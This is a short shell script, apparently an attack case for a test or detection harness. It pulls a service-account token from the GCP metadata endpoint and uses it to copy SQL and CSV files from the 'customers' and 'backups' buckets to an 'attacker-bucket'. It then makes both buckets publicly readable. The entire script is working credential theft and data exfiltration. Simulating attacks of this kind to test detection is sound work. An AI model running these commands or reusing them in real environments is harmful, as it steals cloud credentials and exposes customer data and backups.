#!/bin/sh
. /opt/case/case.sh

t=$(curl -sf -H 'Metadata-Flavor: Google' http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token)
g() { curl -sf -H "Authorization: Bearer $t" "$@" >/dev/null; }
for b in customers backups; do
    g "http://storage.googleapis.com/storage/v1/b/$b/o?maxResults=1000"
    for o in a.sql b.sql c.csv; do g -X POST -d '{}' "http://storage.googleapis.com/storage/v1/b/$b/o/$o/rewriteTo/b/attacker-bucket/o/$b-$o"; done
    g -X POST -d '{"entity":"allUsers","role":"READER"}' "http://storage.googleapis.com/storage/v1/b/$b/acl"
done
took_place
